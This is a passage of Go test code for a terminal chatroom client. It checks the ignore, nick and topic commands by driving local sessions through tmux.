	tm.waitLines(`^\d\d:\d\d -!- bob joined$`, `^\d\d:\d\d -!- cy joined$`)

	tm.typeSlowly("/help")
	tm.keys("Enter")
	tm.waitLines(`^-- /help — list the commands you may use$`, `^-- /bell on\|off — ring the terminal bell`, `^-- /clear — clear the screen`,
		`^-- /ignore \[NAME\] — hide NAME's messages`, `^-- /unignore NAME — show NAME's messages again \(NAME as ignored, or the name they have here now\)$`)

	tm.typeSlowly("/ignore bob")
	tm.keys("Enter")
	tm.waitLines(`^-- ignoring bob by key ` + regexp.QuoteMeta(bobKey) + `, under any name they take; their messages, /me lines and private messages are hidden`)
	tm.typeSlowly("/ignore cy")
	tm.keys("Enter")
	tm.waitLines(`^-- ignoring cy by name \(the room tells no key for them\): whoever has the name is ignored;`)
	tm.typeSlowly("/unignore cy")
	tm.keys("Enter")
	tm.waitLines(`^-- no longer ignoring cy$`)
	for _, line := range []string{"ana: spam", "/me spams", "/msg ana psst", "/nick rob", "spam as rob"} {
		if err := bob.sess.Send(line); err != nil {
			t.Fatal(err)
		}
	}
	// cy's line is said once the room has handled all of bob's, so that
	// it comes after them on ana's screen (two members' lines have no
	// order of their own).
	bob.waitHeard(t, "spam as rob")
	if err := cy.sess.Send("after the spam"); err != nil {
		t.Fatal(err)
	}
	lines := tm.waitLines(`^\d\d:\d\d -!- bob is now known as rob$`, `^\d\d:\d\d <cy> after the spam$`)
	for _, l := range lines {
		if strings.Contains(l, "spam") && !strings.Contains(l, "<cy>") || strings.Contains(l, "psst") {
			t.Errorf("an ignored line is shown: %q", l)
		}
	}
	if data, err := os.ReadFile(tui.IgnoreFile(tui.HistoryFile(state, "ana"))); err != nil || !strings.HasSuffix(string(data), "\nbob "+bobKey+"\n") {
		t.Errorf("the ignore list kept: %q, %v", data, err)
	}

	tm.typeSlowly("/unignore rob")
	tm.keys("Enter")
	tm.waitLines(`^-- no longer ignoring bob$`)
	if err := bob.sess.Send("back"); err != nil {
		t.Fatal(err)
	}
	tm.waitLines(`^\d\d:\d\d <rob> back$`)
	tm.keys("C-d")
	tm.waitLines(`^\[exited 0\]$`)

	data, err := os.ReadFile(logFile)
	if err != nil {
		t.Fatal(err)
	}
	log := string(data)
	// The log has the room's lines; not what the prompt's own commands
	// answer, which are about this terminal.
	for _, want := range []string{" <cy> after the spam\n", " <rob> back\n", " -!- cy joined\n", " -- /help — list the commands you may use\n"} {
		if !strings.Contains(log, want) {
			t.Errorf("the log lacks %q:\n%s", want, log)
		}
	}
	if strings.Contains(log, "ana: spam") || strings.Contains(log, "psst") || strings.Contains(log, "spams") || strings.Contains(log, "spam as rob") || strings.Contains(log, "/unignore") {
		t.Errorf("the log holds what was ignored:\n%s", log)
	}
	if !regexp.MustCompile(`(?m)^\d{4}-\d\d-\d\d \d\d:\d\d <rob> back$`).MatchString(log) {
		t.Errorf("the log's lines are not dated:\n%s", log)
	}
}

// TestPromptNick: at a real prompt, /nick changes the prompt's own name
// once the room has taken it, and the person ("you are now known as")
// and the others see the change; a refused /nick leaves the prompt's name as it was.
// The topic is in the prompt's room line: the setter's at once, another
// member's from their next prompt, cut with "…" when long, gone once
// cleared.
func TestPromptNick(t *testing.T) {
	bin := buildChatroom(t)
	h, err := host.Start(host.Config{Name: "Lab 3", StateDir: t.TempDir(), Listen: "127.0.0.1:0", TopicByAnyone: true})
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	addr, fp := h.Addr().String(), h.Fingerprint()
	joinAt := func(name string) *tmuxTerm {
		return startTmux(t, fmt.Sprintf("%s join --addr %s --fingerprint %s --user %s --state %s; echo \"[exited $?]\"; sleep 600",
			bin, addr, fp, name, t.TempDir()))
	}
	ana := joinAt("ana")
	ana.waitRow("Lab 3 ana> ", -1)
	bob := joinAt("bob")
	bob.waitRow("Lab 3 bob> ", -1)
	ana.waitLines(`^\d\d:\d\d -!- bob joined$`)

	ana.typeSlowly("/nick newname")
	ana.keys("Enter")
	ana.waitRow("Lab 3 newname> ", -1)
	ana.waitLines(`^\d\d:\d\d -!- you are now known as newname$`)
	bob.waitLines(`^\d\d:\d\d -!- ana is now known as newname$`)
	ana.typeSlowly("hello as newname")
	ana.keys("Enter")
	bob.waitLines(`^\d\d:\d\d <newname> hello as newname$`)

	ana.typeSlowly("/nick bob")
	ana.keys("Enter")
	ana.waitLines(`^!! not renamed: the name "bob" is taken$`)
	ana.waitRow("Lab 3 newname> ", -1)

	ana.typeSlowly("/topic build is red")
	ana.keys("Enter")
	ana.waitRow("Lab 3 [topic: build is red] newname> ", -1)
	bob.waitLines(`^\d\d:\d\d -!- newname set the topic: build is red$`)
	bob.keys("Enter") // an empty line: the next prompt
	bob.waitRow("Lab 3 [topic: build is red] bob> ", -1)
	long := "build 142 is red again: the linker ran out of memory on the arm runner"
	ana.typeSlowly("/topic " + long)
	ana.keys("Enter")
	ana.waitRow("Lab 3 [topic: "+long[:29]+"…] newname> ", -1)
	ana.typeSlowly("/topic -delete")
	ana.keys("Enter")
	ana.waitRow("Lab 3 newname> ", -1)
	bob.waitLines(`^\d\d:\d\d -!- newname cleared the topic$`)
	bob.keys("Enter")
	bob.waitRow("Lab 3 bob> ", -1)
	ana.keys("C-d")
	ana.waitLines(`^\[exited 0\]$`)
	bob.waitLines(`^\d\d:\d\d -!- newname left$`)
}
